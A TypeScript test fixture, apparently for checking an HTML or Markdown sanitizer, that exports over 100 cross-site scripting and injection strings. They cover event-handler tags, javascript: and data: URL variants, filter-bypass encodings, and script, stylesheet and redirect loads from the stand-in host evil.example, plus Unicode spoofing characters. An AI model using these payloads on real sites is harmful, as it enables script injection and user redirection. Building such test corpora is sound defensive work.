const RUN = 'window.ran=1';
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbeforetoggle',
  'onscrollend',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'iframe src=about:blank',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'marquee',
  'object data=x',
];
const URLS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `vbscript:${RUN}`,
  `//evil.example/x.js`,
  `&#106;avascript:${RUN}`,
];

/** Texts that run a script, load something or leave their place where they are taken for markup. At least 100. */
export const PAYLOADS: readonly string[] = [
  ...TAGS.flatMap((tag, index) =>
    [0, 1, 2, 3].map((step) => {
      const handler = HANDLERS[(index + step) % HANDLERS.length];
      return [
        `<${tag} ${handler}=${RUN}>`,
        `"><${tag} ${handler}="${RUN}">`,
        `'/><${tag}/${handler}='${RUN}'//`,
        `</textarea></title></style></script><${tag} ${handler}=${RUN}>`,
      ][step] as string;
    }),
  ),
  ...URLS.flatMap((url) => [
    `[click](${url})`,
    `![picture](${url})`,
    `<a href="${url}">click</a>`,
    `<${url}>`,
  ]),
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</ScRiPt>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=//evil.example/x.js></script>`,
  `<style>@import url(//evil.example/x.css);*{background:url(//evil.example/y)}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example><button>go</button></form>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>"></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `\${${RUN}} {{${RUN}}} <%= ${RUN} %>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `__proto__[ran]=1 constructor.prototype.ran=1`,
  `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\``,
  `> <img src=x onerror=${RUN}>`,
  `- <svg onload=${RUN}>\n  - <svg onload=${RUN}>`,
  `**<img src=x onerror=${RUN}>** _<b onclick=${RUN}>_ \`<i>\``,
  `[a](javascript:${RUN} "b") [c]: javascript:${RUN}`,
  `user\u202Egnp.exe\u2066 admin\u2069`,
  `pass\u200Bword\uFEFF\u00AD\u2060`,
  `\u001b[31mred\u001b[0m \u0000\u0008\u0007`,
  `tag\u{E0041}\u{E0042}\u{E007F} characters`,
  `]]><![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `javascript:${RUN}//`,
];
